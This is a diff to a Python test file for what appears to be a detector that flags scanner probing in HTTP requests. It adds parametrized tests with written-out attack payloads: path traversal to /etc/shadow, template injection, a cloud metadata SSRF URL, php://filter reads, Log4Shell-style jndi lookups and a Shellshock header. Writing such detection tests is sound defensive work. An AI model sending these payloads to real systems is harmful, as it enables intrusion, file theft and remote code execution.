@@ -208,6 +208,15 @@ ATTACKS = (
     b"q=%3Cscript%3E",
     b"id=1;SLEEP(5)",
 )
+FURTHER = (
+    b"file=..%252f..%252f..%252fetc%252fshadow",
+    b"file=....//....//boot.ini",
+    b"name=%7B%7B7*7%7D%7D",
+    b"name=$%7B7*7%7D",
+    b"name=%7B%7B''.__class__%7D%7D",
+    b"url=http://169.254.169.254/latest/meta-data/",
+    b"page=php://filter/resource=index",
+)
 
 
 def tried(
@@ -233,6 +242,21 @@ def test_who_types_an_attack_and_reloads_what_comes_of_it_is_a_developer(ours: O
     queries = [query for query in ATTACKS[:4] for _ in range(3)]
     assert touched(tried(ours, queries, BROWSER.page(typed=True), (status,), gap=0.7)) == []
     assert tried(ours, queries, TOOL, (status,))[1].flagged
+
+
+@pytest.mark.parametrize("query", FURTHER)
+def test_paths_written_otherwise_and_templates_are_tried_by_scanners(ours: Ours, query: bytes) -> None:
+    assert touched(tried(ours, [b"name=%7B%7Bfirst_name%7D%7D", b"size=5*7", b"file=a/../b"] * 9, TOOL, (500,))) == []
+    assert tried(ours, [query] * 2, TOOL, (500,))[1].signals == ("probing",)
+
+
+@pytest.mark.parametrize("name", [b"referer", b"cookie", b"x-forwarded-for", b"x-api-version"])
+@pytest.mark.parametrize("attack", [b"${jndi:ldap://a.example/x}", b"${${lower:j}ndi:dns://a}", b"() { :; }; /bin/id"])
+def test_what_scanners_write_into_headers_is_a_probe_where_the_app_fails_at_it(
+    ours: Ours, name: bytes, attack: bytes
+) -> None:
+    assert touched(tried(ours, [b""] * 9, (*TOOL, (name, b'{"a": "() => 1", "b": "${user}"}')), (500,))) == []
+    assert tried(ours, [b""] * 2, (*TOOL, (name, attack)), (500,))[1].signals == ("probing",)
 
 
 @pytest.mark.parametrize("padding", [b"a=" + b"x" * 3_000 + b"&", b"a=1&b=&" * 300, b"y" * 2_000])
